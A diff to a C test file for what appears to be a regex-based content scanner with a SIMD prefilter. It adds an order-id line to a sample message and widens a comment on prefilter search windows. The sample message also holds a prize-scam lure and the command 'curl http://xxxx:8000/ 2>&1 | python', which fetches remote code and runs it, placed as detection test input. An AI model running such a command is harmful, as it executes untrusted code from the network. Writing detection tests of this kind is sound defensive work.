@@ -8,7 +8,9 @@
  * The message has lines longer than 64 bytes and a body past 256, so that
  * the scans cross the SIMD block sizes where Vectorscan's bugs live, and
  * bytes >= 0x80 and '&', near which the slots whose literals hold only
- * without them are searched (prefilter.c, odd_windows).
+ * without them are searched (prefilter.c, odd_windows), and runs of hex
+ * digits, capitals and figures, where slots without a literal but with a
+ * part that consumes such a run are searched (span_windows).
  * A regex that hits PCRE2's match limit counts as no match, and the
  * prefilter's shorter searches (from a window around a literal, up to
  * the last literal) may then find a match the whole search gave up on:
@@ -46,7 +48,8 @@ static const char MSG[] =
 	"[ a bracketed line of text that runs on for more than sixty-four bytes ]\n"
 	"Dear friend, please send your FULL NAME, address, phone number and a copy of "
 	"your passport to claim the $1,000,000 prize: reply to winner@x.test now!!!\n"
-	"curl http://xxxx:8000/ 2>&1 | python\n";
+	"curl http://xxxx:8000/ 2>&1 | python\n"
+	"order id a3f9c2e1-b7d04e55f for CONGRATULATIONSWINNERS, usd 12,345.67 paid\n";
 
 /* append - every hit of h as "name detail\n" */
 static void append(struct buf *b, const struct hits *h)
